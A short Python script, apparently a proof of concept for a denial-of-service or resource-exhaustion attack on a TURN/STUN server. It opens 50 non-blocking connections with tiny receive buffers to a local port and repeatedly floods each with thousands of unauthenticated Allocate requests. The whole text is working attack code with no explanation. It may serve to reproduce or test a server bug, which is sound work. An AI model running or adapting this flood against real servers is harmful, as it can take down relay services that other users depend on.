import socket, struct, os, time
# Allocate request without credentials: 20-byte header + REQUESTED-TRANSPORT (8 bytes)
def req():
    attrs = struct.pack("!HHI", 0x0019, 4, 17 << 24)
    return struct.pack("!HHI12s", 0x0003, len(attrs), 0x2112A442, os.urandom(12)) + attrs
socks = []
for i in range(50):
    s = socket.create_connection(("127.0.0.1", 34782))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.setblocking(False)
    socks.append(s)
blob = b"".join(req() for _ in range(2000))  # 56 KB
for r in range(12):
    for s in socks:
        try: s.send(blob)
        except BlockingIOError: pass
    time.sleep(0.2)
time.sleep(1)
print("done")
time.sleep(3)
